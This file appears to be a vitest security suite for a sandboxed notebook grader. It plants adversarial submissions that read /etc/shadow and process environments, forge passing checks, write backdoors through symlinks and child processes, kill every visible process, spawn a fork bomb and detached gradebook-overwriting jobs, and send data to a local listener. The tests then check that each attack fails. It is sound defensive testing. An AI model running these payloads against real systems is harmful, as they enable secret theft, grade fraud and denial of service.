/**
 * Homework under attack: a class of adversarial submissions graded in one batch by the sandboxed
 * grader (bubblewrap, verdicts judged in the grader's process). One learner per kind of attack of
 * issue 17: reading what no learner may read, forging a pass, delegating to the library, writing
 * outside the sandbox, harming a classmate, outliving or breaking the batch, the network. The
 * teacher still gets full marks and a blank notebook zero, in the same batch.
 *
 * Attack code announces what it reached with "FOUND:"; the feedback (grades.json keeps each
 * answer cell's stdout) must never contain it, nor any of the planted secrets.
 */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as net from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gradeBatch, releaseLessons, type GradeBatchResult, type SubmissionGrade } from "../src/course/homework";
import { FIXTURE_LESSON, HOMEWORK_LESSONS, TEST_COURSE_SECRET } from "./fixtures/homework/submissions";

const ROOT = path.resolve(__dirname, "..");
const LIMITS = { cellTimeoutMs: 20_000, notebookTimeoutMs: 120_000, memoryLimitMb: 512 };
const ENV_SECRET = "envsecret-" + "7f3a9c";
const MARKER = "bnlab-attack-" + process.pid; // in the argv of processes an attack leaves behind

const correct = {
  batchStats: `function batchStats(x: Matrix): { mu: Matrix; variance: Matrix } {
  const mu = x.meanRows();
  return { mu, variance: x.sub(mu).map((d) => d * d).meanRows() };
}`,
  normalize: `function normalize(x: Matrix, eps: number): Matrix {
  const mu = x.meanRows();
  const variance = x.sub(mu).map((d) => d * d).meanRows();
  return x.sub(mu).div(variance.map((v) => Math.sqrt(v + eps)));
}`,
  newBatchWeight: `function newBatchWeight(momentum: number | null, numBatchesTracked: number): number {
  return momentum === null ? 1 / numBatchesTracked : momentum;
}`,
};
const wrong = {
  batchStats: `function batchStats(x: Matrix): { mu: Matrix; variance: Matrix } {
  const mu = x.meanCols();
  return { mu, variance: x.sub(mu).map((d) => d * d).meanCols() };
}`,
  normalize: `function normalize(x: Matrix, eps: number): Matrix {
  return x;
}`,
  newBatchWeight: `function newBatchWeight(momentum: number | null, numBatchesTracked: number): number {
  return 0.5;
}`,
};

interface Attack {
  learner: string;
  kind: "read" | "forge" | "delegate" | "write" | "harm" | "outlive" | "network" | "control";
  what: string;
  /** Exercise cells (1.1, 1.2, 1.3); a missing one keeps the stub. */
  cells: Partial<Record<"1.1" | "1.2" | "1.3", string>>;
}

let base: string;
let canary: string;
let submissionsDir: string;
let batch: GradeBatchResult;
let gradesText: string;
let listener: net.Server;
let listenerPort = 0;
let connections = 0;
let aliceHashBefore = "";
let elapsedMs = 0;

const req = `const rq: any = require;`;
const tryRead = (p: string): string => `try { const t = rq("fs").readFileSync(${p}, "utf8"); console.log("FOUND:" + ${p} + " " + t.slice(0, 3000)); } catch (e) { console.log("denied " + ${p}); }`;
const tryWrite = (p: string): string => `try { rq("fs").writeFileSync(${p}, "attack"); console.log("FOUND:wrote " + ${p}); } catch (e) { console.log("denied " + ${p}); }`;

function attacks(): Attack[] {
  const j = JSON.stringify;
  const c = (file: string): string => j(path.join(canary, file));
  const alice = j(path.join(submissionsDir, "alice", `${FIXTURE_LESSON}.ipynb`));
  const lessonFile = j(path.join(HOMEWORK_LESSONS, `${FIXTURE_LESSON}.md`));
  return [
    { learner: "teacher", kind: "control", what: "the reference answers", cells: { "1.1": correct.batchStats, "1.2": correct.normalize, "1.3": correct.newBatchWeight } },
    { learner: "blank", kind: "control", what: "the notebook as released", cells: {} },
    { learner: "alice", kind: "control", what: "a classmate with right answers (the target of the harm attacks)", cells: { "1.1": correct.batchStats, "1.2": correct.normalize, "1.3": correct.newBatchWeight } },
    // --- reading what no learner may read
    {
      learner: "read-hidden-tests",
      kind: "read",
      what: "the lesson source with the hidden tests, by its real path, and by searching the whole visible file system",
      cells: {
        "1.3": `${req}
${tryRead(lessonFile)}
${tryRead(j(path.join(ROOT, "lessons", "01-normalize.md")))}
const fs = rq("fs");
const hits: string[] = [];
const walk = (d: string, depth: number): void => { let es: any[] = []; try { es = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
  for (const e of es) { const f = (d === "/" ? "" : d) + "/" + e.name; if (["/proc", "/sys", "/dev", "/usr"].includes(f)) continue;
    if (e.isDirectory() && depth < 8) walk(f, depth + 1); else if (e.isFile()) { try { if (fs.readFileSync(f, "utf8").includes("HIDDEN" + "-1.")) hits.push(f); } catch {} } } };
walk("/", 0);
if (hits.length) console.log("FOUND:hidden tests in " + hits.join(", "));
${wrong.newBatchWeight}`,
      },
    },
    {
      learner: "read-solutions",
      kind: "read",
      what: "the compiled reference solutions, in the sandbox's dist and through the project's real dist path",
      cells: {
        "1.3": `${req}
${tryRead(j(path.join(ROOT, "dist", "exercises", "solutions", "batch-stats.js")))}
${tryRead(j("/bnlab/dist/exercises/solutions/batch-stats.js"))}
try { const list = rq("fs").readdirSync("/bnlab/dist/exercises/solutions"); if (list.length) console.log("FOUND:solutions " + list.join(",")); } catch {}
try { const real = rq("fs").realpathSync("/bnlab/dist"); if (real !== "/bnlab/dist") console.log("FOUND:real path " + real); } catch {}
${wrong.newBatchWeight}`,
      },
    },
    {
      learner: "read-classmate",
      kind: "read",
      what: "a classmate's notebook by path, and every process's command line",
      cells: {
        "1.3": `${req}
${tryRead(alice)}
const fs = rq("fs");
for (const p of fs.readdirSync("/proc")) { try { const cmd = fs.readFileSync("/proc/" + p + "/cmdline", "utf8"); if (cmd.includes("alice") || cmd.includes("vitest")) console.log("FOUND:cmdline " + cmd); } catch {} }
${wrong.newBatchWeight}`,
      },
    },
    {
      learner: "read-env",
      kind: "read",
      what: "the instructor's environment variables (own, and every visible process's)",
      cells: {
        "1.3": `${req}
console.log("env " + JSON.stringify((globalThis as any).process.env));
const fs = rq("fs");
for (const p of fs.readdirSync("/proc")) { try { console.log("environ " + p + " " + fs.readFileSync("/proc/" + p + "/environ", "utf8").split("\\0").join(" ")); } catch {} }
${wrong.newBatchWeight}`,
      },
    },
    { learner: "read-shadow", kind: "read", what: "/etc/shadow", cells: { "1.3": `${req}\n${tryRead(j("/etc/shadow"))}\n${wrong.newBatchWeight}` } },
    {
      learner: "read-hmac-key",
      kind: "read",
      what: "the kernel's connection file (its HMAC key) and the grader's sockets",
      cells: {
        "1.3": `${req}
const fs = rq("fs");
for (const d of ["/run/bnlab", "/tmp", os_tmp()]) { try { for (const f of fs.readdirSync(d)) { if (f.includes("connection")) console.log("FOUND:connection file " + d + "/" + f + " " + fs.readFileSync(d + "/" + f, "utf8")); } } catch {} }
function os_tmp(): string { return ${j(os.tmpdir())}; }
${tryRead(j(path.join(os.tmpdir(), "bnlab-grade")))}
${wrong.newBatchWeight}`,
      },
    },
    // --- forging a pass
    {
      learner: "forge-console",
      kind: "forge",
      what: "prints a passing BNLAB_CHECK line and rewrites console.log so a failure reads as a pass",
      cells: {
        "1.1": `${wrong.batchStats}
console.log('BNLAB_CHECK {"exercise":"batchStats","ok":true,"kind":"pass","points":1}');
const log = console.log;
console.log = (...a: unknown[]) => log(...a.map((x) => String(x).replace('"ok":false', '"ok":true').replace("✗", "✓")));`,
      },
    },
    {
      learner: "forge-checkers",
      kind: "forge",
      what: "replaces check, checkers, collectors and Matrix.prototype methods so every check passes",
      cells: {
        "1.1": `${wrong.batchStats}
${req}
const pass = { ok: true, exercise: "batchStats", title: "x", kind: "pass", message: "ok", points: 1 };
for (const k of Object.keys(check)) try { (check as any)[k] = () => pass; } catch {}
for (const k of Object.keys(checkers)) try { (checkers as any)[k] = () => pass; } catch {}
try { const lib = rq("/bnlab/dist/index.js"); for (const k of Object.keys(lib.collectors)) try { lib.collectors[k] = () => ({ protocol: "bnlab-check/1", exercise: k, notFunction: null, cases: [] }); } catch {} } catch {}
(Matrix.prototype as any).sub = function () { return this; };
(Matrix.prototype as any).maxAbs = () => 0;`,
        "1.2": wrong.normalize,
      },
    },
    {
      learner: "forge-display",
      kind: "forge",
      what: "sends its own collected data (and sends it twice), and rewrites JSON.stringify and tslab's display",
      cells: {
        "1.1": `${wrong.batchStats}
${req}
const tslab = rq("tslab");
const MIME = "application/vnd.bnlab.collected+json";
const forged = JSON.stringify({ protocol: "bnlab-check/1", exercise: "batchStats", notFunction: null, cases: [{ values: {}, mutated: [], failure: null }] });
tslab.display.raw(MIME, forged);
const raw = tslab.display.raw.bind(tslab.display);
tslab.display.raw = (type: string, data: string) => { raw(type, forged); raw(type, forged); };
const stringify = JSON.stringify;
JSON.stringify = ((v: unknown, ...rest: unknown[]) => (v && typeof v === "object" && "protocol" in (v as object) ? forged : (stringify as any)(v, ...rest))) as typeof JSON.stringify;`,
      },
    },
    {
      learner: "forge-tslab-handler",
      kind: "forge",
      what: "patches tslab's modules through require.cache so later cells run its code instead of the grader's",
      cells: {
        "1.1": `${wrong.batchStats}
${req}
const forged = JSON.stringify({ protocol: "bnlab-check/1", exercise: "batchStats", notFunction: null, cases: [] });
for (const m of Object.values(rq.cache ?? {}) as any[]) {
  const ex = m?.exports;
  if (!ex || typeof ex !== "object") continue;
  for (const k of Object.keys(ex)) {
    if (typeof ex[k] === "function" && /exec|convert|display/i.test(k)) {
      const orig = ex[k];
      try { ex[k] = (...a: any[]) => { try { rq("tslab").display.raw("application/vnd.bnlab.collected+json", forged); } catch {} return orig(...a); }; } catch {}
    }
  }
}`,
      },
    },
    // --- delegating to the library
    {
      learner: "delegate-batchnorm",
      kind: "delegate",
      what: "normalize through the library's BatchNorm1d",
      cells: { "1.2": `import { BatchNorm1d } from "../src";\nfunction normalize(x: Matrix, eps: number): Matrix {\n  return new BatchNorm1d(x.cols, { eps }).forward(x);\n}` },
    },
    {
      learner: "delegate-solutions",
      kind: "delegate",
      what: "batchStats from the compiled reference solutions",
      cells: { "1.1": `function batchStats(x: Matrix): { mu: Matrix; variance: Matrix } {\n  return require("../dist/exercises/solutions").batchStats(x);\n}` },
    },
    // --- writing outside the sandbox
    {
      learner: "write-dist",
      kind: "write",
      what: "a backdoor next to the library: in the sandbox's dist and through the project's real dist path",
      cells: { "1.3": `${req}\n${tryWrite(j(path.join(ROOT, "dist", "ATTACK-backdoor.js")))}\n${tryWrite(j("/bnlab/dist/index.js"))}\n${wrong.newBatchWeight}` },
    },
    {
      learner: "write-child-process",
      kind: "write",
      what: "a shell writes into the canary folder and the classmate's folder",
      cells: { "1.3": `${req}\ntry { rq("child_process").execSync("echo x > " + ${c("child-process")} + "; echo x > " + ${j(path.join(submissionsDir, "alice", "framed.txt"))}, { stdio: "pipe" }); } catch {}\n${wrong.newBatchWeight}` },
    },
    {
      learner: "write-binding",
      kind: "write",
      what: "process.binding('fs') past any JavaScript-level guard",
      cells: { "1.3": `${req}\ntry { const b = (globalThis as any).process.binding("fs"); const fd = b.open(${c("binding")}, 577, 0o644, undefined, { path: "" }); console.log("fd " + fd); } catch (e) { console.log("denied " + e); }\n${wrong.newBatchWeight}` },
    },
    {
      learner: "write-worker",
      kind: "write",
      what: "a worker thread writes the canary",
      cells: { "1.3": `${req}\ntry { const { Worker } = rq("worker_threads"); new Worker("require('fs').writeFileSync(" + JSON.stringify(${c("worker")}) + ", 'x')", { eval: true }); } catch (e) { console.log("denied " + e); }\n${wrong.newBatchWeight}` },
    },
    {
      learner: "write-uint8array",
      kind: "write",
      what: "a Uint8Array path (no string for a guard to check)",
      cells: { "1.3": `${req}\ntry { rq("fs").writeFileSync(new TextEncoder().encode(${c("uint8array")}), "x"); } catch (e) { console.log("denied " + e); }\n${wrong.newBatchWeight}` },
    },
    {
      learner: "write-symlink",
      kind: "write",
      what: "a relative symlink out of its folder, then a write through it",
      cells: {
        "1.3": `${req}\nconst fs = rq("fs");\ntry { fs.symlinkSync("../".repeat(12) + ${j(canary.slice(1))}, "out"); fs.writeFileSync("out/symlink", "x"); } catch (e) { console.log("denied " + e); }\ntry { fs.symlinkSync(${j(path.join(ROOT, "dist"))}, "d"); fs.writeFileSync("d/ATTACK-symlink.js", "x"); } catch (e) { console.log("denied " + e); }\n${wrong.newBatchWeight}`,
      },
    },
    // --- harming classmates
    {
      learner: "harm-edit-notebook",
      kind: "harm",
      what: "overwrites and deletes the classmate's notebook before it is graded",
      cells: { "1.3": `${req}\n${tryWrite(alice)}\ntry { rq("fs").unlinkSync(${alice}); console.log("FOUND:deleted"); } catch {}\n${wrong.newBatchWeight}` },
    },
    {
      learner: "harm-kill-kernels",
      kind: "harm",
      what: "kills every process it can see (every other kernel, the grader), last its own",
      cells: {
        "1.3": `${req}\nconst fs = rq("fs");\nconst me = (globalThis as any).process.pid;\nfor (const p of fs.readdirSync("/proc")) { const pid = Number(p); if (pid > 0 && pid !== me) try { (globalThis as any).process.kill(pid, "SIGKILL"); } catch {} }\ntry { (globalThis as any).process.kill(-1, "SIGKILL"); } catch {}\n(globalThis as any).process.kill(me, "SIGKILL");\n${wrong.newBatchWeight}`,
      },
    },
    {
      learner: "harm-zeromq",
      kind: "harm",
      what: "looks for other kernels' ZeroMQ sockets and connection files to inject code",
      cells: {
        "1.3": `${req}\nconst fs = rq("fs");\nconst found: string[] = [];\nconst walk = (d: string, depth: number): void => { let es: any[] = []; try { es = fs.readdirSync(d, { withFileTypes: true }); } catch { return; } for (const e of es) { const f = (d === "/" ? "" : d) + "/" + e.name; if (["/proc", "/sys", "/usr"].includes(f)) continue; if (e.isSocket() || e.name.includes("connection")) found.push(f); else if (e.isDirectory() && depth < 6) walk(f, depth + 1); } };\nwalk("/", 0);\nconst others = found.filter((f) => !f.startsWith("/run/bnlab/"));\nif (others.length) console.log("FOUND:sockets " + others.join(","));\n${wrong.newBatchWeight}`,
      },
    },
    // --- outliving or breaking the batch
    {
      learner: "outlive-detached",
      kind: "outlive",
      what: "a detached process that would rewrite the gradebook after the grader exits",
      cells: {
        "1.3": `${req}\nconst { spawn } = rq("child_process");\nconst child = spawn("sh", ["-c", "sleep 30; echo forged > " + ${j(path.join(base, "graded", "gradebook.csv"))} + " # ${MARKER}"], { detached: true, stdio: "ignore" });\nchild.unref();\n${correct.newBatchWeight}`,
      },
    },
    {
      learner: "outlive-fork-bomb",
      kind: "outlive",
      what: "a fork bomb",
      cells: { "1.3": `${req}\ntry { rq("child_process").spawn("sh", ["-c", "b() { b | b & }; b # ${MARKER}"], { detached: true, stdio: "ignore" }).unref(); } catch {}\n${correct.newBatchWeight}` },
    },
    {
      learner: "outlive-memory-hog",
      kind: "outlive",
      what: "child processes that together pass the memory limit (each under it)",
      cells: {
        "1.3": `${req}\nconst { spawn } = rq("child_process");\nfor (let i = 0; i < 4; i++) spawn((globalThis as any).process.execPath, ["-e", "const a = []; for (let i = 0; i < 40; i++) a.push(Buffer.alloc(8e6, 1)); setTimeout(() => {}, 60000); // ${MARKER}"], { stdio: "ignore" });\nconst t = Date.now(); while (Date.now() - t < 15000) {}\n${correct.newBatchWeight}`,
      },
    },
    {
      learner: "outlive-stdout",
      kind: "outlive",
      what: "300 MB of output",
      cells: { "1.3": `const mb = "x".repeat(1 << 20);\nfor (let i = 0; i < 300; i++) console.log(mb);\n${correct.newBatchWeight}` },
    },
    { learner: "constructor", kind: "outlive", what: "a learner folder named constructor, whose forged data names the exercise constructor", cells: { "1.1": `${wrong.batchStats}\n${req}\nrq("tslab").display.raw("application/vnd.bnlab.collected+json", JSON.stringify({ exercise: "constructor", misconception: "constructor", __proto__: { ok: true } }));` } },
    { learner: "__proto__", kind: "outlive", what: "a learner folder named __proto__", cells: { "1.1": correct.batchStats } },
    { learner: "a b", kind: "outlive", what: "two learner names that map to the same file name (1)", cells: { "1.1": correct.batchStats } },
    { learner: "a_b", kind: "outlive", what: "two learner names that map to the same file name (2)", cells: {} },
    // --- network
    {
      learner: "network-exfiltrate",
      kind: "network",
      what: "sends what it found to a listener on the host's 127.0.0.1",
      cells: {
        "1.3": `${req}\nawait new Promise<void>((done) => {\n  const s = rq("net").connect(PORT_PLACEHOLDER, "127.0.0.1", () => { console.log("FOUND:connected"); s.write("exfiltrated"); done(); });\n  s.on("error", (e: Error) => { console.log("denied " + e.message); done(); });\n});\n${wrong.newBatchWeight}`,
      },
    },
  ];
}

const EXERCISE_CELL: Record<string, string> = { "1.1": "exercise-1_1", "1.2": "exercise-1_2", "1.3": "exercise-1_3" };

function writeAttacks(student: string, list: Attack[]): void {
  for (const attack of list) {
    const dir = path.join(submissionsDir, attack.learner);
    fs.mkdirSync(dir, { recursive: true });
    const notebook = JSON.parse(student) as { cells: { metadata: { nbgrader?: { grade_id?: string } }; source: string[] | string }[] };
    for (const [exercise, code] of Object.entries(attack.cells)) {
      const cell = notebook.cells.find((c) => c.metadata.nbgrader?.grade_id === EXERCISE_CELL[exercise]);
      if (!cell) throw new Error(`no cell ${exercise}`);
      cell.source = code.replace("PORT_PLACEHOLDER", String(listenerPort));
    }
    fs.writeFileSync(path.join(dir, `${FIXTURE_LESSON}.ipynb`), JSON.stringify(notebook));
  }
}

const grade = (learner: string): SubmissionGrade => {
  const found = batch.grades.find((g) => g.learner === learner);
  if (!found) throw new Error(`no grade for ${learner}`);
  return found;
};
const points = (learner: string, exercise: string): number => grade(learner).exercises.find((e) => e.id === exercise)?.points ?? NaN;
const stdoutOf = (learner: string): string => grade(learner).answers.map((a) => a.stdout ?? "").join("\n");
const leftovers = (): string[] =>
  spawnSync("pgrep", ["-a", "-f", MARKER], { encoding: "utf8" })
    .stdout.split("\n")
    .filter((line) => line.trim() !== "" && !line.includes("pgrep"));

beforeAll(async () => {
  base = fs.mkdtempSync(path.join(os.tmpdir(), "bnlab-attacks-"));
  canary = path.join(base, "canary");
  submissionsDir = path.join(base, "submitted");
  fs.mkdirSync(canary);
  listener = net.createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  listenerPort = (listener.address() as net.AddressInfo).port;
  process.env.BNLAB_ATTACK_SECRET = ENV_SECRET;
  const release = releaseLessons({ root: ROOT, lessonsDir: HOMEWORK_LESSONS, lessons: ["01"], outDir: path.join(base, "release") });
  writeAttacks(fs.readFileSync(release.notebooks[0], "utf8"), attacks());
  aliceHashBefore = createHash("sha256").update(fs.readFileSync(path.join(submissionsDir, "alice", `${FIXTURE_LESSON}.ipynb`))).digest("hex");
  const started = Date.now();
  batch = await gradeBatch({ projectRoot: ROOT, lessonsDir: HOMEWORK_LESSONS, submissionsDir, outDir: path.join(base, "graded"), limits: LIMITS, courseSecret: TEST_COURSE_SECRET });
  elapsedMs = Date.now() - started;
  gradesText = fs.readFileSync(batch.gradesFile, "utf8");
}, 900_000);

afterAll(() => {
  delete process.env.BNLAB_ATTACK_SECRET;
  listener?.close();
  for (const stray of [path.join(ROOT, "dist", "ATTACK-backdoor.js"), path.join(ROOT, "dist", "ATTACK-symlink.js")]) fs.rmSync(stray, { force: true });
  if (base) fs.rmSync(base, { recursive: true, force: true });
});

describe("the batch under attack", () => {
  it("graded every submission and wrote every output", () => {
    expect(batch.grades.map((g) => g.learner).sort()).toEqual(attacks().map((a) => a.learner).sort());
    expect(batch.grades.filter((g) => g.status === "grader-error")).toEqual([]);
    for (const file of [batch.gradebookFile, batch.gradesFile, batch.canvasFile, ...batch.feedbackFiles]) expect(fs.existsSync(file), file).toBe(true);
    console.log(`graded ${batch.grades.length} adversarial notebooks in ${(elapsedMs / 1000).toFixed(1)} s`);
  });

  it("still gives the teacher full marks, the blank notebook zero, the classmate full marks", () => {
    expect([grade("teacher").status, grade("teacher").total]).toEqual(["ok", 5]);
    expect([grade("blank").status, grade("blank").total]).toEqual(["ok", 0]);
    expect([grade("alice").status, grade("alice").total]).toEqual(["ok", 5]);
  });
});

describe("reading what no learner may read", () => {
  it("finds nothing: no hidden test, solution, classmate code, shadow file or connection file reaches any feedback", () => {
    for (const g of batch.grades) {
      expect(stdoutOf(g.learner), g.learner).not.toContain("FOUND:"); // what the attack printed (its source says FOUND too)
      for (const e of g.exercises) for (const c of e.checks) expect(c.report, g.learner).not.toContain("FOUND:");
    }
    expect(gradesText).not.toContain("HIDDEN-1.");
    expect(gradesText).not.toContain("INSTRUCTOR-ANSWER");
  });

  it("sees an empty environment: not the instructor's variables", () => {
    expect(stdoutOf("read-env")).toContain("env {");
    expect(gradesText).not.toContain(ENV_SECRET);
  });

  it("every read attempt was refused, not skipped", () => {
    for (const learner of ["read-hidden-tests", "read-solutions", "read-classmate", "read-shadow"]) expect(stdoutOf(learner), learner).toContain("denied ");
  });
});

describe("forging a pass", () => {
  for (const learner of ["forge-console", "forge-checkers", "forge-display", "forge-tslab-handler", "constructor"]) {
    it(`${learner}: the wrong answers get no point`, () => {
      expect(points(learner, "1.1")).toBe(0);
      expect(points(learner, "1.2")).toBe(0);
    });
  }
});

describe("delegating to the library", () => {
  it("normalize through BatchNorm1d gets 0, and the feedback says why", () => {
    expect(points("delegate-batchnorm", "1.2")).toBe(0);
    const exercise = grade("delegate-batchnorm").exercises.find((e) => e.id === "1.2");
    expect(exercise?.delegated).toMatch(/BatchNorm1d, the library's own implementation/);
    const page = fs.readFileSync(batch.feedbackFiles[batch.grades.findIndex((g) => g.learner === "delegate-batchnorm")] ?? "", "utf8");
    expect(page).toMatch(/BatchNorm1d, the library(&#39;|&#x27;|')s own implementation/);
  });

  it("batchStats from the reference solutions gets 0 (and the solutions are not in the sandbox anyway)", () => {
    expect(points("delegate-solutions", "1.1")).toBe(0);
  });
});

describe("writing outside the sandbox", () => {
  it("nothing reached the canary folder, the project's dist or a classmate's folder", () => {
    expect(fs.readdirSync(canary)).toEqual([]);
    expect(fs.existsSync(path.join(ROOT, "dist", "ATTACK-backdoor.js"))).toBe(false);
    expect(fs.existsSync(path.join(ROOT, "dist", "ATTACK-symlink.js"))).toBe(false);
    expect(fs.existsSync(path.join(submissionsDir, "alice", "framed.txt"))).toBe(false);
    expect(stdoutOf("write-dist")).toContain("denied /bnlab/dist/index.js");
  });
});

describe("harming classmates", () => {
  it("the classmate's notebook is unchanged and graded in full", () => {
    const after = createHash("sha256").update(fs.readFileSync(path.join(submissionsDir, "alice", `${FIXTURE_LESSON}.ipynb`))).digest("hex");
    expect(after).toBe(aliceHashBefore);
    expect(grade("alice").total).toBe(5);
  });

  it("killing every visible process stops only the attacker's own kernel", () => {
    expect(grade("harm-kill-kernels").status).toBe("kernel-died");
    // (the fork bomb, the memory hog and a bad process.binding call stop only their own kernels too)
    for (const g of batch.grades) if (!["harm-kill-kernels", "write-binding", "outlive-fork-bomb", "outlive-memory-hog", "outlive-stdout"].includes(g.learner)) expect(g.status, g.learner).not.toBe("kernel-died");
  });
});

describe("outliving or breaking the batch", () => {
  it("leaves no process behind (detached, fork bomb, memory hogs)", async () => {
    await new Promise((resolve) => setTimeout(resolve, 2000));
    expect(leftovers()).toEqual([]);
  });

  it("stops the memory hog", () => {
    expect(grade("outlive-memory-hog").status).toBe("memory-limit");
  });

  it("caps 300 MB of output: the grades stay small", () => {
    expect(["output-limit", "timeout", "ok"]).toContain(grade("outlive-stdout").status);
    expect(gradesText.length).toBeLessThan(20_000_000);
  });

  it("renders a page for learners named constructor and __proto__, and two similar names get two files", () => {
    const names = batch.feedbackFiles.map((f) => path.basename(f));
    expect(new Set(names).size).toBe(names.length);
    for (const learner of ["constructor", "__proto__", "a b", "a_b"]) {
      const page = batch.feedbackFiles[batch.grades.findIndex((g) => g.learner === learner)];
      expect(fs.readFileSync(page, "utf8"), learner).toContain(`Feedback for ${learner.replace("_", "_")}`);
    }
  });
});

describe("the network", () => {
  it("no connection reached a listener on the host's 127.0.0.1", () => {
    expect(connections).toBe(0);
    expect(stdoutOf("network-exfiltrate")).toContain("denied ");
  });
});
